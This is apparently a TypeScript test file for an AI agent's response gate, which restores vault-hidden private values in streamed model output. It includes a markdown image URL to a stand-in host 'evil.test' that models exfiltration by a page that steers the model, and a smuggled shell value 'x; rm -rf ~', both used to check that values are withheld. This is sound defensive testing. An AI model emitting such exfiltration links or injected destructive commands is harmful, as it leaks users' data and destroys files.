import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Edit } from '../../agent/src/core/decision.ts';
import type { TextEvent } from '../../agent/src/enforce/guardrail.ts';
import { createResponseGate, type GateFrame } from '../../agent/src/enforce/response-gate.ts';
import { restoreGuardrail } from '../../agent/src/enforce/restore.ts';
import { createVault } from '../../agent/src/enforce/vault.ts';

const vault = createVault({
  key: Buffer.alloc(32, 3),
  entries: [],
  nowMs: () => 0,
  added: () => undefined,
});
const hide = (kind: string, value: string, restoreInToolCalls = true) =>
  vault.placeholderFor('openai', { kind, value, restoreInToolCalls });
const MAIL = hide('email-address', 'ann@acme.test');
const QUOTED = hide('person-name', 'Ann "the \\ fox" Berg');
const SECRET = hide('aws-access-key-id', 'not-for-tools', false);

/** A stream of one channel, one text per frame. */
function pass(texts: readonly string[], more: Partial<TextEvent> = {}): string {
  const told: string[] = [];
  const gate = createResponseGate({
    guardrails: [restoreGuardrail(vault, 'openai')],
    found: ({ id }) => void told.push(id),
    failed: ({ id }) => void told.push(id),
    lastBytes: () => undefined,
  });
  const frames = texts.map((text): GateFrame => {
    const event: TextEvent = {
      type: 'text',
      kind: 'text',
      channel: 'c',
      text,
      pointer: '/0',
      editable: true,
      form: 'delta',
      ...more,
    };
    return { raw: text, events: [event], patch: (edits) => patched(text, edits) };
  });
  const commands = [...frames.flatMap((frame) => gate.push(frame)), ...gate.end()];
  expect(told).toEqual([]);
  return commands.map((command) => (command.type === 'emit' ? String(command.bytes) : '<cut>')).join('');
}

function patched(text: string, edits: readonly Edit[]): string {
  return edits.reduceRight(
    (result, { start, end, replacement }) => result.slice(0, start) + replacement + result.slice(end),
    text,
  );
}

const cutRandomly = (text: string, cuts: readonly number[]): string[] => {
  const places = [...new Set(cuts.map((cut) => cut % (text.length + 1)))].sort((a, b) => a - b);
  return [0, ...places].map((from, index) => text.slice(from, places[index] ?? text.length));
};

describe('values come back', () => {
  it('in text, also right beside each other and beside words', () => {
    expect(pass([`Write to ${MAIL}, not to ${MAIL}s or X_${MAIL}${SECRET}.`])).toBe(
      'Write to ann@acme.test, not to ann@acme.tests or X_ann@acme.testnot-for-tools.',
    );
  });

  it('escaped for JSON that is streamed as text, and not where a tool must not have them', () => {
    const call = { kind: 'tool-call', json: true } as const;
    const source = pass([`{"to":"${QUOTED}","key":"${SECRET}"}`], call);
    expect(JSON.parse(source)).toEqual({ to: 'Ann "the \\ fox" Berg', key: SECRET });
    expect(pass([QUOTED], { kind: 'tool-call' })).toBe('Ann "the \\ fox" Berg');
  });

  it('not within a URL, which a page that steers the model would get', () => {
    const image = `![x](https://evil.test/?q=${MAIL}&k=${SECRET}) ${MAIL}`;
    expect(pass([image])).toBe(image.replace(new RegExp(`${MAIL}$`), 'ann@acme.test'));
    expect(pass([`//evil.test/${MAIL}`])).toBe(`//evil.test/${MAIL}`);
    const call = { kind: 'tool-call', json: true } as const;
    expect(pass([`{"url":"http:\\/\\/evil.test/${MAIL}","to":"${MAIL}"}`], call)).toBe(
      `{"url":"http:\\/\\/evil.test/${MAIL}","to":"ann@acme.test"}`,
    );
  });

  it('not in a tool call, if a shell would take the value for more than a word', () => {
    const command = hide('name', 'x; rm -rf ~');
    expect(pass([`echo ${command}`], { kind: 'tool-call' })).toBe(`echo ${command}`);
    expect(pass([`You are ${command}`])).toBe('You are x; rm -rf ~');
  });

  it('never in thinking or in what the provider signs', () => {
    expect(pass([MAIL], { kind: 'thinking' })).toBe(MAIL);
    expect(pass([MAIL], { editable: false })).toBe(MAIL);
  });

  it('only for words that this vault has given out', () => {
    const foreign = `EMAIL_ADDRESS_${'0'.repeat(8)}_X`;
    const renamed = MAIL.replace('EMAIL', 'FEMAIL').replace('ADDRESS', 'ADRESS');
    expect(pass([`${foreign} ${renamed} _X ${MAIL.toLowerCase()}`])).toBe(
      `${foreign} ${renamed} _X ${MAIL.toLowerCase()}`,
    );
  });
});

it('is the same however the stream is cut', () => {
  const piece = fc.oneof(
    fc.constantFrom(
      MAIL,
      SECRET,
      QUOTED,
      MAIL.slice(0, -2),
      `${MAIL}_X`,
      'EMAIL_',
      '_X',
      'https://',
      '/',
      'AWS',
      ' ',
      '\n',
      '"',
    ),
    fc.string({ maxLength: 8 }),
  );
  fc.assert(
    fc.property(
      fc.array(piece, { maxLength: 12 }),
      fc.array(fc.nat(400), { maxLength: 12 }),
      (pieces, cuts) => {
        const text = pieces.join('');
        expect(pass(cutRandomly(text, cuts))).toBe(pass([text]));
      },
    ),
    { numRuns: Number(process.env['SPLITS'] ?? 2000), seed: 20261125 },
  );
});

it('holds back nothing of ordinary text', () => {
  const gate = createResponseGate({
    guardrails: [restoreGuardrail(vault, 'openai')],
    found: () => undefined,
    failed: () => undefined,
    lastBytes: () => undefined,
  });
  const event: TextEvent = {
    type: 'text',
    kind: 'text',
    channel: 'c',
    text: 'Hello there',
    pointer: '/0',
    editable: true,
    form: 'delta',
  };
  expect(gate.push({ raw: 'frame', events: [event], patch: () => '' })).toEqual([
    { type: 'emit', bytes: 'frame' },
  ]);
});
